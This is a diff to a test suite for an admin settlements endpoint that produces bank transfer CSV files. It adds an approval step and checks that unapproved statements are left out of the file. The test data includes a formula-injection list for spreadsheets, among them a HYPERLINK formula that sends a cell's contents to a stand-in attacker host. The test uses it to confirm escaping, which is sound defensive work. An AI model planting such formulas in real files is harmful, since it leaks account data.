@@ -366,7 +366,8 @@ describe('/api/admin/settlements', () => {
     expect(response.headers['content-type']).toMatch(/^text\/csv/);
     const lines = response.body.replace('\uFEFF', '').trim().split('\r\n');
     expect(lines[0]).toBe('bank,holder,account,amount,statementId,memo');
-    expect(lines).toContain(`국민은행,홍길동,1002${creator.id},36000,${statementId},FM-S${statementId}`);
+    // The statement is ISSUED: nobody approved it, so no money leaves for it.
+    expect(lines.join('\n')).not.toContain(`FM-S${statementId}`);
 
     // A holder that a spreadsheet would read as a formula is written as text.
     const formulas = ['=HYPERLINK("https://evil.example/?"&C2,"확인")', '+1+2', '-3', '@SUM(1)', '\tx', '\rx'];
@@ -382,6 +383,15 @@ describe('/api/admin/settlements', () => {
     expect(
       (await send('POST', '/api/admin/settlement-runs', finance.headers, { year: 2025, month: 6 })).statusCode,
     ).toBe(200);
+    await approveAs(
+      app(),
+      checker,
+      await send('POST', '/api/admin/settlements/batches', finance.headers, {
+        action: 'approve',
+        year: 2025,
+        month: 6,
+      }),
+    );
     const june = (await get('/api/admin/settlements/transfer-file?year=2025&month=6', finance.headers)).body;
     const holders = june
       .replace('\uFEFF', '')
